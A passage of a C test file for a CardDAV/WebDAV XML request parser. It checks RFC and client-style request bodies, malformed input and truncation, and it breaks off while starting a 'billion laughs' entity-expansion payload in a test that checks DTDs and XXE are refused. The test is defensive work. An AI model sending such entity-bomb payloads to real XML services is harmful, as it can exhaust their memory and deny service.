/*
 * Tests for the WebDAV/CardDAV request body parser (src/formats/davxml.c).
 *
 * The well-formed bodies are the examples of RFC 4918 9.1/9.2, RFC 6352 8.6/8.7 and
 * RFC 6578 3.x, and bodies written after what vdirsyncer, Thunderbird (built-in CardDAV
 * and CardBook), DAVx5, Evolution and Apple Contacts send: the same requests with the
 * prefixes and default namespaces each uses. They are reconstructions, not captures.
 * Hostile input (DTDs, XXE, deep nesting, limits, bad encodings) must fail cleanly
 * with the right code and an empty result; leaks are caught by the sanitizer build.
 */
#include "check.h"

#include <stdlib.h>

#include <libxml/parser.h>
#include <libxml/parserInternals.h>
#include <libxml/xmlerror.h>

#include "formats/davxml.h"
#include "kith/kith.h"
#include "util/buf.h"

#define XMLDECL "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n"

static int
setup(void **state)
{
    (void) state;
    return kith_init() == KITH_OK ? 0 : -1;
}

static void
parse_ok(const char *method, const char *body, kith_davxml_request_t *r)
{
    char err[256];
    int rc = kith_davxml_parse(method, body, strlen(body), r, err, sizeof(err));
    if (rc != KITH_OK) {
        print_error("parse failed: %s\n", err);
    }
    ASSERT_OK(rc);
}

/* Expects code and an empty result; checks the message is non-empty and, when msg is
 * not NULL, contains msg. */
static void
parse_err_len(const char *method, const char *body, size_t len, int code, const char *msg)
{
    kith_davxml_request_t r;
    char err[256];
    ASSERT_ERR(kith_davxml_parse(method, body, len, &r, err, sizeof(err)), code);
    assert_true(err[0] != '\0');
    if (msg != NULL && strstr(err, msg) == NULL) {
        print_error("message \"%s\", expected it to contain \"%s\"\n", err, msg);
        fail();
    }
    ASSERT_EQ(r.kind, 0);
    ASSERT_EQ(r.n_props, 0);
    ASSERT_EQ(r.n_hrefs, 0);
    assert_null(r.props);
    assert_null(r.hrefs);
    assert_null(r.sync_token);
    kith_davxml_request_close(&r);
}

static void
parse_err(const char *method, const char *body, int code, const char *msg)
{
    parse_err_len(method, body, strlen(body), code, msg);
}

static void
check_prop(const kith_davxml_request_t *r, size_t i, kith_davp_t id, const char *ns,
           const char *name)
{
    assert_true(i < r->n_props);
    ASSERT_EQ(r->props[i].id, id);
    ASSERT_STREQ(r->props[i].ns, ns);
    ASSERT_STREQ(r->props[i].name, name);
}

#define DAV  "DAV:"
#define CARD "urn:ietf:params:xml:ns:carddav"
#define CS   "http://calendarserver.org/ns/"

/* ---- PROPFIND ---------------------------------------------------------------------- */

static void
rfc4918_propfind_prop(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* RFC 4918 9.1.3: unknown properties in a foreign namespace. */
    parse_ok("PROPFIND",
             XMLDECL "<D:propfind xmlns:D=\"DAV:\">\n"
                     "  <D:prop xmlns:R=\"http://ns.example.com/boxschema/\">\n"
                     "    <R:bigbox/>\n    <R:author/>\n    <R:DingALing/>\n    <R:Random/>\n"
                     "  </D:prop>\n"
                     "</D:propfind>\n",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_PROPFIND);
    ASSERT_EQ(r.allprop, 0);
    ASSERT_EQ(r.propname, 0);
    ASSERT_EQ(r.n_props, 4);
    check_prop(&r, 0, KITH_DAVP_OTHER, "http://ns.example.com/boxschema/", "bigbox");
    check_prop(&r, 1, KITH_DAVP_OTHER, "http://ns.example.com/boxschema/", "author");
    check_prop(&r, 2, KITH_DAVP_OTHER, "http://ns.example.com/boxschema/", "DingALing");
    check_prop(&r, 3, KITH_DAVP_OTHER, "http://ns.example.com/boxschema/", "Random");
    assert_null(r.hrefs);
    assert_null(r.sync_token);
    kith_davxml_request_close(&r);
}

static void
rfc4918_propname_allprop_include(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* RFC 4918 9.1.4, default namespace. */
    parse_ok("PROPFIND", XMLDECL "<propfind xmlns=\"DAV:\">\n  <propname/>\n</propfind>", &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_PROPFIND);
    ASSERT_EQ(r.propname, 1);
    ASSERT_EQ(r.allprop, 0);
    ASSERT_EQ(r.n_props, 0);
    kith_davxml_request_close(&r);

    /* RFC 4918 9.1.5. */
    parse_ok("PROPFIND", XMLDECL "<D:propfind xmlns:D=\"DAV:\">\n  <D:allprop/>\n</D:propfind>",
             &r);
    ASSERT_EQ(r.allprop, 1);
    ASSERT_EQ(r.propname, 0);
    ASSERT_EQ(r.n_props, 0);
    kith_davxml_request_close(&r);

    /* RFC 4918 9.1.6: allprop with include. */
    parse_ok("PROPFIND",
             XMLDECL "<D:propfind xmlns:D=\"DAV:\">\n  <D:allprop/>\n  <D:include>\n"
                     "    <D:supported-live-property-set/>\n    <D:supported-report-set/>\n"
                     "  </D:include>\n</D:propfind>",
             &r);
    ASSERT_EQ(r.allprop, 1);
    ASSERT_EQ(r.n_props, 2);
    check_prop(&r, 0, KITH_DAVP_OTHER, DAV, "supported-live-property-set");
    check_prop(&r, 1, KITH_DAVP_SUPPORTED_REPORT_SET, DAV, "supported-report-set");
    kith_davxml_request_close(&r);
}

static void
empty_body(void **state)
{
    kith_davxml_request_t r;
    char err[64];
    (void) state;
    ASSERT_OK(kith_davxml_parse("PROPFIND", NULL, 0, &r, err, sizeof(err)));
    ASSERT_EQ(r.kind, KITH_DAVXML_PROPFIND);
    ASSERT_EQ(r.allprop, 1);
    ASSERT_EQ(r.n_props, 0);
    kith_davxml_request_close(&r);
    parse_ok("PROPFIND", " \r\n\t\n", &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_PROPFIND);
    ASSERT_EQ(r.allprop, 1);
    kith_davxml_request_close(&r);

    parse_err_len("REPORT", NULL, 0, KITH_EPARSE, "empty");
    parse_err("REPORT", "\r\n", KITH_EPARSE, "empty");
    parse_err("PROPPATCH", "", KITH_EPARSE, "empty");
    /* A form feed is not XML white space: malformed, not empty. */
    parse_err("PROPFIND", "\f", KITH_EPARSE, NULL);
}

static void
known_props_all(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* Every property the server knows, in the namespaces they live in. */
    parse_ok("PROPFIND",
             "<propfind xmlns=\"DAV:\" xmlns:c=\"urn:ietf:params:xml:ns:carddav\" "
             "xmlns:cs=\"http://calendarserver.org/ns/\"><prop>"
             "<resourcetype/><getetag/><getcontenttype/><getcontentlength/><getlastmodified/>"
             "<displayname/><current-user-principal/><principal-URL/><owner/>"
             "<current-user-privilege-set/><supported-report-set/><sync-token/>"
             "<c:addressbook-home-set/><c:addressbook-description/><c:supported-address-data/>"
             "<c:max-resource-size/><c:address-data/><cs:getctag/><principal-collection-set/>"
             "<resource-id/><quota-available-bytes/><quota-used-bytes/>"
             /* Right names in the wrong namespace, and the wrong case, are not known. */
             "<cs:getetag/><c:displayname/><principal-url/><getctag/>"
             "</prop></propfind>",
             &r);
    ASSERT_EQ(r.n_props, 26);
    for (size_t i = 0; i < 22; i++) {
        ASSERT_EQ(r.props[i].id, (kith_davp_t) (i + 1));
    }
    check_prop(&r, 12, KITH_DAVP_ADDRESSBOOK_HOME_SET, CARD, "addressbook-home-set");
    check_prop(&r, 17, KITH_DAVP_GETCTAG, CS, "getctag");
    check_prop(&r, 22, KITH_DAVP_OTHER, CS, "getetag");
    check_prop(&r, 23, KITH_DAVP_OTHER, CARD, "displayname");
    check_prop(&r, 24, KITH_DAVP_OTHER, DAV, "principal-url");
    check_prop(&r, 25, KITH_DAVP_OTHER, DAV, "getctag");
    kith_davxml_request_close(&r);
}

static void
no_namespace_prop(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* xmlns="" takes a property out of any namespace: ns is "". */
    parse_ok("PROPFIND",
             "<D:propfind xmlns:D=\"DAV:\"><D:prop><plain xmlns=\"\"/><D:getetag/></D:prop>"
             "</D:propfind>",
             &r);
    ASSERT_EQ(r.n_props, 2);
    check_prop(&r, 0, KITH_DAVP_OTHER, "", "plain");
    check_prop(&r, 1, KITH_DAVP_GETETAG, DAV, "getetag");
    kith_davxml_request_close(&r);
}

static void
propfind_structure(void **state)
{
    (void) state;
    parse_err("PROPFIND", "<D:propfind xmlns:D=\"DAV:\"/>", KITH_EPARSE, "needs");
    parse_err("PROPFIND", "<D:propfind xmlns:D=\"DAV:\"><D:allprop/><D:propname/></D:propfind>",
              KITH_EPARSE, "Only one");
    parse_err("PROPFIND",
              "<D:propfind xmlns:D=\"DAV:\"><D:prop><D:getetag/></D:prop><D:prop/></D:propfind>",
              KITH_EPARSE, "Only one");
    parse_err("PROPFIND",
              "<D:propfind xmlns:D=\"DAV:\"><D:prop/><D:include><D:getetag/></D:include>"
              "</D:propfind>",
              KITH_EPARSE, "include");
    /* A propfind in no namespace is not DAV:propfind. */
    parse_err("PROPFIND", "<propfind><allprop/></propfind>", KITH_EPARSE, "DAV:propfind");
    /* Unknown children are ignored (RFC 4918 section 17). */
    kith_davxml_request_t r;
    parse_ok("PROPFIND",
             "<D:propfind xmlns:D=\"DAV:\" xmlns:X=\"urn:x\"><X:hint>x</X:hint><D:allprop/>"
             "</D:propfind>",
             &r);
    ASSERT_EQ(r.allprop, 1);
    kith_davxml_request_close(&r);
}

/* ---- Clients ----------------------------------------------------------------------- */

static void
vdirsyncer(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* Discovery, lower-case d: prefix. */
    parse_ok("PROPFIND",
             "<d:propfind xmlns:d=\"DAV:\">\n    <d:prop>\n        <d:current-user-principal />\n"
             "    </d:prop>\n</d:propfind>",
             &r);
    ASSERT_EQ(r.n_props, 1);
    check_prop(&r, 0, KITH_DAVP_CURRENT_USER_PRINCIPAL, DAV, "current-user-principal");
    kith_davxml_request_close(&r);
    parse_ok("PROPFIND",
             "<d:propfind xmlns:d=\"DAV:\" xmlns:c=\"urn:ietf:params:xml:ns:carddav\">\n"
             "    <d:prop>\n        <c:addressbook-home-set />\n    </d:prop>\n</d:propfind>",
             &r);
    check_prop(&r, 0, KITH_DAVP_ADDRESSBOOK_HOME_SET, CARD, "addressbook-home-set");
    kith_davxml_request_close(&r);
    /* Listing, then multiget with DAV: as the default namespace. */
    parse_ok("PROPFIND",
             XMLDECL "<propfind xmlns=\"DAV:\">\n    <prop>\n        <resourcetype/>\n"
                     "        <getcontenttype/>\n        <getetag/>\n    </prop>\n</propfind>",
             &r);
    ASSERT_EQ(r.n_props, 3);
    check_prop(&r, 2, KITH_DAVP_GETETAG, DAV, "getetag");
    kith_davxml_request_close(&r);
    parse_ok("REPORT",
             XMLDECL "<C:addressbook-multiget xmlns=\"DAV:\" "
                     "xmlns:C=\"urn:ietf:params:xml:ns:carddav\">\n"
                     "    <prop>\n        <getetag/>\n        <C:address-data/>\n    </prop>\n"
                     "    <href>/dav/alice/contacts/a%20b.vcf</href>\n"
                     "<href>/dav/alice/contacts/c.vcf</href>\n"
                     "</C:addressbook-multiget>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_MULTIGET);
    ASSERT_EQ(r.n_props, 2);
    check_prop(&r, 1, KITH_DAVP_ADDRESS_DATA, CARD, "address-data");
    ASSERT_EQ(r.n_hrefs, 2);
    ASSERT_STREQ(r.hrefs[0], "/dav/alice/contacts/a%20b.vcf"); /* not decoded */
    ASSERT_STREQ(r.hrefs[1], "/dav/alice/contacts/c.vcf");
    kith_davxml_request_close(&r);
}

static void
thunderbird(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* Thunderbird's built-in CardDAV: DAV: default, "card" and "cs" prefixes. */
    parse_ok("PROPFIND",
             "<propfind xmlns=\"DAV:\" xmlns:card=\"urn:ietf:params:xml:ns:carddav\" "
             "xmlns:cs=\"http://calendarserver.org/ns/\"><prop><resourcetype/><displayname/>"
             "<cs:getctag/><sync-token/></prop></propfind>",
             &r);
    ASSERT_EQ(r.n_props, 4);
    check_prop(&r, 2, KITH_DAVP_GETCTAG, CS, "getctag");
    check_prop(&r, 3, KITH_DAVP_SYNC_TOKEN, DAV, "sync-token");
    kith_davxml_request_close(&r);
    parse_ok("REPORT",
             "<sync-collection xmlns=\"DAV:\" xmlns:card=\"urn:ietf:params:xml:ns:carddav\">"
             "<sync-token>http://kith.example/sync/42</sync-token><sync-level>1</sync-level>"
             "<prop><getetag/><getcontenttype/></prop></sync-collection>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_SYNC);
    ASSERT_STREQ(r.sync_token, "http://kith.example/sync/42");
    ASSERT_EQ(r.sync_level, 1);
    ASSERT_EQ(r.n_props, 2);
    kith_davxml_request_close(&r);
    /* CardBook: D:/C:/CS: prefixes, an explicit multiget with address-data. */
    parse_ok("REPORT",
             XMLDECL "<C:addressbook-multiget xmlns:D=\"DAV:\" "
                     "xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
                     "<D:prop><D:getetag/><C:address-data content-type=\"text/vcard\" "
                     "version=\"3.0\"/></D:prop>"
                     "<D:href>/card/alice/book/1.vcf</D:href></C:addressbook-multiget>",
             &r);
    ASSERT_EQ(r.n_hrefs, 1);
    ASSERT_STREQ(r.hrefs[0], "/card/alice/book/1.vcf");
    kith_davxml_request_close(&r);
}

static void
davx5(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* dav4jvm: its own prefixes ("d", "CARD", "CS") and a collection refresh. */
    parse_ok("PROPFIND",
             XMLDECL "<d:propfind xmlns:d=\"DAV:\" "
                     "xmlns:CARD=\"urn:ietf:params:xml:ns:carddav\" "
                     "xmlns:CS=\"http://calendarserver.org/ns/\">"
                     "<d:prop><d:resourcetype/><d:displayname/><CARD:addressbook-description/>"
                     "<d:current-user-privilege-set/><CS:getctag/><d:sync-token/>"
                     "<CARD:supported-address-data/><d:owner/></d:prop></d:propfind>",
             &r);
    ASSERT_EQ(r.n_props, 8);
    check_prop(&r, 2, KITH_DAVP_ADDRESSBOOK_DESCRIPTION, CARD, "addressbook-description");
    check_prop(&r, 6, KITH_DAVP_SUPPORTED_ADDRESS_DATA, CARD, "supported-address-data");
    check_prop(&r, 7, KITH_DAVP_OWNER, DAV, "owner");
    kith_davxml_request_close(&r);
    /* Initial sync (empty token), paged with a limit. */
    parse_ok("REPORT",
             "<d:sync-collection xmlns:d=\"DAV:\"><d:sync-token/>"
             "<d:sync-level>1</d:sync-level><d:limit><d:nresults>100</d:nresults></d:limit>"
             "<d:prop><d:getcontenttype/><d:getetag/></d:prop></d:sync-collection>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_SYNC);
    ASSERT_STREQ(r.sync_token, "");
    ASSERT_EQ(r.sync_level, 1);
    ASSERT_EQ(r.limit, 100);
    kith_davxml_request_close(&r);
    /* addressbook-query used to list a collection without sync. */
    parse_ok("REPORT",
             "<CARD:addressbook-query xmlns:d=\"DAV:\" "
             "xmlns:CARD=\"urn:ietf:params:xml:ns:carddav\"><d:prop><d:getcontenttype/>"
             "<d:getetag/></d:prop></CARD:addressbook-query>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_QUERY);
    ASSERT_EQ(r.n_props, 2);
    ASSERT_EQ(r.limit, 0);
    kith_davxml_request_close(&r);
}

static void
evolution(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* Evolution (e-webdav-session): D: and C: prefixes, an empty filter. */
    parse_ok("REPORT",
             XMLDECL "<C:addressbook-query xmlns:C=\"urn:ietf:params:xml:ns:carddav\" "
                     "xmlns:D=\"DAV:\"><D:prop><D:getetag/></D:prop><C:filter/>"
                     "</C:addressbook-query>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_QUERY);
    ASSERT_EQ(r.n_props, 1);
    kith_davxml_request_close(&r);
    parse_ok("PROPPATCH",
             XMLDECL "<D:propertyupdate xmlns:D=\"DAV:\" "
                     "xmlns:C=\"urn:ietf:params:xml:ns:carddav\"><D:set><D:prop>"
                     "<D:displayname>Work &amp; friends</D:displayname>"
                     "<C:addressbook-description>shared</C:addressbook-description>"
                     "</D:prop></D:set></D:propertyupdate>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_PROPPATCH);
    ASSERT_EQ(r.n_props, 2);
    check_prop(&r, 0, KITH_DAVP_DISPLAYNAME, DAV, "displayname");
    check_prop(&r, 1, KITH_DAVP_ADDRESSBOOK_DESCRIPTION, CARD, "addressbook-description");
    kith_davxml_request_close(&r);
}

static void
apple_contacts(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* Apple's A:/B: prefixes, principal discovery. */
    parse_ok("PROPFIND",
             XMLDECL "<A:propfind xmlns:A=\"DAV:\">\n  <A:prop>\n"
                     "    <A:current-user-principal/>\n    <A:principal-URL/>\n"
                     "    <A:resourcetype/>\n  </A:prop>\n</A:propfind>\n",
             &r);
    ASSERT_EQ(r.n_props, 3);
    check_prop(&r, 1, KITH_DAVP_PRINCIPAL_URL, DAV, "principal-URL");
    kith_davxml_request_close(&r);
    parse_ok("PROPFIND",
             XMLDECL "<A:propfind xmlns:A=\"DAV:\" xmlns:B=\"urn:ietf:params:xml:ns:carddav\">"
                     "<A:prop><B:addressbook-home-set/><A:principal-collection-set/>"
                     "<B:max-resource-size/><A:quota-available-bytes/><A:quota-used-bytes/>"
                     "<A:resource-id/></A:prop></A:propfind>",
             &r);
    ASSERT_EQ(r.n_props, 6);
    check_prop(&r, 2, KITH_DAVP_MAX_RESOURCE_SIZE, CARD, "max-resource-size");
    check_prop(&r, 5, KITH_DAVP_RESOURCE_ID, DAV, "resource-id");
    kith_davxml_request_close(&r);
    parse_ok("REPORT",
             XMLDECL "<A:sync-collection xmlns:A=\"DAV:\">\n"
                     "  <A:sync-token>\n    data:,7f3c\n  </A:sync-token>\n"
                     "  <A:sync-level>1</A:sync-level>\n"
                     "  <A:prop>\n    <A:getetag/>\n  </A:prop>\n</A:sync-collection>\n",
             &r);
    ASSERT_STREQ(r.sync_token, "data:,7f3c"); /* trimmed */
    kith_davxml_request_close(&r);
    /* Apple asks for expand-property on principals: not supported. */
    parse_err("REPORT",
              XMLDECL "<A:expand-property xmlns:A=\"DAV:\"><A:property name=\"owner\"/>"
                      "</A:expand-property>",
              KITH_ENOTSUP, "expand-property");
}

/* ---- PROPPATCH and REPORTs (RFC examples) ------------------------------------------ */

static void
rfc4918_proppatch(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* RFC 4918 9.2.2. */
    parse_ok("PROPPATCH",
             XMLDECL "<D:propertyupdate xmlns:D=\"DAV:\"\n"
                     "        xmlns:Z=\"http://ns.example.com/standards/z39.50/\">\n"
                     "  <D:set>\n    <D:prop>\n      <Z:Authors>\n"
                     "        <Z:Author>Jim Whitehead</Z:Author>\n"
                     "        <Z:Author>Roy Fielding</Z:Author>\n"
                     "      </Z:Authors>\n    </D:prop>\n  </D:set>\n"
                     "  <D:remove>\n    <D:prop><Z:Copyright-Owner/></D:prop>\n  </D:remove>\n"
                     "</D:propertyupdate>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_PROPPATCH);
    ASSERT_EQ(r.n_props, 2);
    check_prop(&r, 0, KITH_DAVP_OTHER, "http://ns.example.com/standards/z39.50/", "Authors");
    check_prop(&r, 1, KITH_DAVP_OTHER, "http://ns.example.com/standards/z39.50/",
               "Copyright-Owner");
    kith_davxml_request_close(&r);
    parse_err("PROPPATCH", "<D:propertyupdate xmlns:D=\"DAV:\"/>", KITH_EPARSE, "set");
    parse_err("PROPPATCH", "<D:propertyupdate xmlns:D=\"DAV:\"><D:set/></D:propertyupdate>",
              KITH_EPARSE, "DAV:prop");
}

static void
rfc6352_query(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* RFC 6352 8.6.3, with the limit of 8.6.1. */
    parse_ok("REPORT",
             XMLDECL "<C:addressbook-query xmlns:D=\"DAV:\"\n"
                     "                  xmlns:C=\"urn:ietf:params:xml:ns:carddav\">\n"
                     "  <D:prop>\n    <D:getetag/>\n    <C:address-data>\n"
                     "      <C:prop name=\"VERSION\"/>\n      <C:prop name=\"UID\"/>\n"
                     "      <C:prop name=\"NICKNAME\"/>\n      <C:prop name=\"EMAIL\"/>\n"
                     "      <C:prop name=\"FN\"/>\n    </C:address-data>\n  </D:prop>\n"
                     "  <C:filter>\n    <C:prop-filter name=\"NICKNAME\">\n"
                     "      <C:text-match collation=\"i;unicode-casemap\"\n"
                     "                    match-type=\"equals\">me</C:text-match>\n"
                     "    </C:prop-filter>\n  </C:filter>\n"
                     "  <C:limit>\n    <C:nresults> 20 </C:nresults>\n  </C:limit>\n"
                     "</C:addressbook-query>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_QUERY);
    ASSERT_EQ(r.n_props, 2);
    check_prop(&r, 0, KITH_DAVP_GETETAG, DAV, "getetag");
    check_prop(&r, 1, KITH_DAVP_ADDRESS_DATA, CARD, "address-data");
    ASSERT_EQ(r.limit, 20);
    assert_null(r.hrefs);
    kith_davxml_request_close(&r);

    parse_err("REPORT",
              "<C:addressbook-query xmlns:C=\"urn:ietf:params:xml:ns:carddav\"><C:limit/>"
              "</C:addressbook-query>",
              KITH_EPARSE, "nresults");
    static const char *const bad[] = {"0", "-1", "x", "", "4294967296", "99999999999", "1 2"};
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        char body[256];
        snprintf(body, sizeof(body),
                 "<C:addressbook-query xmlns:C=\"urn:ietf:params:xml:ns:carddav\"><C:limit>"
                 "<C:nresults>%s</C:nresults></C:limit></C:addressbook-query>",
                 bad[i]);
        parse_err("REPORT", body, KITH_EPARSE, "nresults");
    }
    parse_ok("REPORT",
             "<C:addressbook-query xmlns:C=\"urn:ietf:params:xml:ns:carddav\"><C:limit>"
             "<C:nresults>4294967295</C:nresults></C:limit></C:addressbook-query>",
             &r);
    ASSERT_EQ(r.limit, 4294967295ul);
    kith_davxml_request_close(&r);
}

static void
rfc6352_multiget(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* RFC 6352 8.7.2. */
    parse_ok("REPORT",
             XMLDECL "<C:addressbook-multiget xmlns:D=\"DAV:\"\n"
                     "                     xmlns:C=\"urn:ietf:params:xml:ns:carddav\">\n"
                     "  <D:prop>\n    <D:getetag/>\n    <C:address-data>\n"
                     "      <C:prop name=\"VERSION\"/>\n      <C:prop name=\"UID\"/>\n"
                     "      <C:prop name=\"NICKNAME\"/>\n      <C:prop name=\"EMAIL\"/>\n"
                     "      <C:prop name=\"FN\"/>\n    </C:address-data>\n  </D:prop>\n"
                     "  <D:href>/home/bernard/addressbook/vcf102.vcf</D:href>\n"
                     "  <D:href>\n    /home/bernard/addressbook/vcf1.vcf\n  </D:href>\n"
                     "  <D:href><![CDATA[/cdata/a&b.vcf]]></D:href>\n"
                     "  <D:href>/ent/a&amp;b<!-- split -->.vcf</D:href>\n"
                     "</C:addressbook-multiget>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_MULTIGET);
    ASSERT_EQ(r.n_props, 2);
    ASSERT_EQ(r.n_hrefs, 4);
    ASSERT_STREQ(r.hrefs[0], "/home/bernard/addressbook/vcf102.vcf");
    ASSERT_STREQ(r.hrefs[1], "/home/bernard/addressbook/vcf1.vcf");
    ASSERT_STREQ(r.hrefs[2], "/cdata/a&b.vcf");
    ASSERT_STREQ(r.hrefs[3], "/ent/a&b.vcf");
    kith_davxml_request_close(&r);

    parse_err("REPORT",
              "<C:addressbook-multiget xmlns:D=\"DAV:\" xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
              "<D:prop><D:getetag/></D:prop></C:addressbook-multiget>",
              KITH_EPARSE, "href");
    parse_err("REPORT",
              "<C:addressbook-multiget xmlns:D=\"DAV:\" xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
              "<D:href>/a<D:b/></D:href></C:addressbook-multiget>",
              KITH_EPARSE, "only text");
}

static void
rfc6578_sync(void **state)
{
    kith_davxml_request_t r;
    (void) state;
    /* RFC 6578 3.8: initial sync, a property in a foreign namespace. */
    parse_ok("REPORT",
             XMLDECL "<D:sync-collection xmlns:D=\"DAV:\">\n  <D:sync-token/>\n"
                     "  <D:sync-level>1</D:sync-level>\n"
                     "  <D:prop xmlns:R=\"urn:ns.example.com:boxschema\">\n"
                     "    <D:getetag/>\n    <R:bigbox/>\n  </D:prop>\n</D:sync-collection>",
             &r);
    ASSERT_EQ(r.kind, KITH_DAVXML_SYNC);
    ASSERT_STREQ(r.sync_token, "");
    ASSERT_EQ(r.sync_level, 1);
    ASSERT_EQ(r.limit, 0);
    ASSERT_EQ(r.n_props, 2);
    check_prop(&r, 1, KITH_DAVP_OTHER, "urn:ns.example.com:boxschema", "bigbox");
    kith_davxml_request_close(&r);
    /* RFC 6578 3.9/3.10: a later sync, infinite depth, with a limit. */
    parse_ok("REPORT",
             XMLDECL "<D:sync-collection xmlns:D=\"DAV:\">\n"
                     "  <D:sync-token>http://example.com/ns/sync/1233</D:sync-token>\n"
                     "  <D:sync-level>infinite</D:sync-level>\n"
                     "  <D:limit><D:nresults>100</D:nresults></D:limit>\n"
                     "  <D:prop><D:getetag/></D:prop>\n</D:sync-collection>",
             &r);
    ASSERT_STREQ(r.sync_token, "http://example.com/ns/sync/1233");
    ASSERT_EQ(r.sync_level, -1);
    ASSERT_EQ(r.limit, 100);
    kith_davxml_request_close(&r);

    parse_err("REPORT",
              "<D:sync-collection xmlns:D=\"DAV:\"><D:sync-token/><D:prop><D:getetag/></D:prop>"
              "</D:sync-collection>",
              KITH_EPARSE, "sync-level");
    parse_err("REPORT",
              "<D:sync-collection xmlns:D=\"DAV:\"><D:sync-level>1</D:sync-level>"
              "</D:sync-collection>",
              KITH_EPARSE, "sync-token");
    parse_err("REPORT",
              "<D:sync-collection xmlns:D=\"DAV:\"><D:sync-token/><D:sync-level>2</D:sync-level>"
              "</D:sync-collection>",
              KITH_EPARSE, "sync-level");
    parse_err("REPORT",
              "<D:sync-collection xmlns:D=\"DAV:\"><D:sync-token/><D:sync-level>Infinity"
              "</D:sync-level></D:sync-collection>",
              KITH_EPARSE, "sync-level");
    parse_err("REPORT",
              "<D:sync-collection xmlns:D=\"DAV:\"><D:sync-token/><D:sync-token/>"
              "<D:sync-level>1</D:sync-level></D:sync-collection>",
              KITH_EPARSE, "twice");
}

static void
wrong_root(void **state)
{
    (void) state;
    static const char propfind[] = "<D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfind>";
    static const char update[] = "<D:propertyupdate xmlns:D=\"DAV:\"><D:remove><D:prop>"
                                 "<D:displayname/></D:prop></D:remove></D:propertyupdate>";
    parse_err("PROPFIND", update, KITH_EPARSE, "DAV:propfind");
    parse_err("PROPPATCH", propfind, KITH_EPARSE, "DAV:propertyupdate");
    parse_err("REPORT", propfind, KITH_ENOTSUP, "not supported");
    parse_err("PROPFIND",
              "<C:addressbook-multiget xmlns:D=\"DAV:\" xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
              "<D:href>/a</D:href></C:addressbook-multiget>",
              KITH_EPARSE, "addressbook-multiget");
    /* CalDAV's calendar-query is a report this server does not support. */
    parse_err("REPORT",
              XMLDECL "<C:calendar-query xmlns:D=\"DAV:\" "
                      "xmlns:C=\"urn:ietf:params:xml:ns:caldav\"><D:prop><D:getetag/></D:prop>"
                      "<C:filter><C:comp-filter name=\"VCALENDAR\"/></C:filter>"
                      "</C:calendar-query>",
              KITH_ENOTSUP, "calendar-query");
    /* The right local name in the wrong namespace. */
    parse_err("REPORT",
              "<X:addressbook-multiget xmlns:X=\"urn:ietf:params:xml:ns:caldav\">"
              "<href xmlns=\"DAV:\">/a</href></X:addressbook-multiget>",
              KITH_ENOTSUP, NULL);

    kith_davxml_request_t r;
    ASSERT_ERR(kith_davxml_parse("GET", propfind, strlen(propfind), &r, NULL, 0), KITH_EINVAL);
    ASSERT_ERR(kith_davxml_parse("propfind", propfind, strlen(propfind), &r, NULL, 0), KITH_EINVAL);
    ASSERT_ERR(kith_davxml_parse(NULL, propfind, strlen(propfind), &r, NULL, 0), KITH_EINVAL);
}

/* ---- Hostile input ----------------------------------------------------------------- */

static void
not_xml(void **state)
{
    (void) state;
    parse_err("PROPFIND", "hello", KITH_EPARSE, "Malformed XML");
    parse_err("PROPFIND", "{\"propfind\": 1}", KITH_EPARSE, "Malformed XML");
    parse_err("PROPFIND", XMLDECL, KITH_EPARSE, "Malformed XML");
    parse_err("PROPFIND", "<!-- only a comment -->", KITH_EPARSE, "Malformed XML");
    parse_err("PROPFIND", "<D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfind><x/>", KITH_EPARSE,
              "after the root");
    parse_err("PROPFIND", "<D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfin>", KITH_EPARSE,
              "end tag");
    /* An undeclared prefix is a namespace error, which libxml2 alone would let pass. */
    parse_err("PROPFIND", "<D:propfind><D:allprop/></D:propfind>", KITH_EPARSE, "namespace");
}

static void
truncated(void **state)
{
    (void) state;
    static const char body[] = XMLDECL "<C:addressbook-multiget xmlns:D=\"DAV:\" "
                                       "xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
                                       "<D:prop><D:getetag/></D:prop><D:href>/a/b.vcf</D:href>"
                                       "</C:addressbook-multiget>";
    /* Every proper prefix fails cleanly (the whitespace-only ones as empty bodies). */
    for (size_t n = 1; n < sizeof(body) - 1; n++) {
        parse_err_len("REPORT", body, n, KITH_EPARSE, NULL);
    }
}

static int entity_loads;

static xmlParserInputPtr
counting_loader(const char *url, const char *id, xmlParserCtxtPtr ctxt)
{
    entity_loads++;
    return NULL;
}

static void
dtd_refused(void **state)
{
    (void) state;
    /* Any external entity or DTD libxml2 tried to load would come through here. */
    xmlExternalEntityLoader old = xmlGetExternalEntityLoader();
    xmlSetExternalEntityLoader(counting_loader);
    entity_loads = 0;

    /* Billion laughs. */
    parse_err("PROPFIND",
              XMLDECL "<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
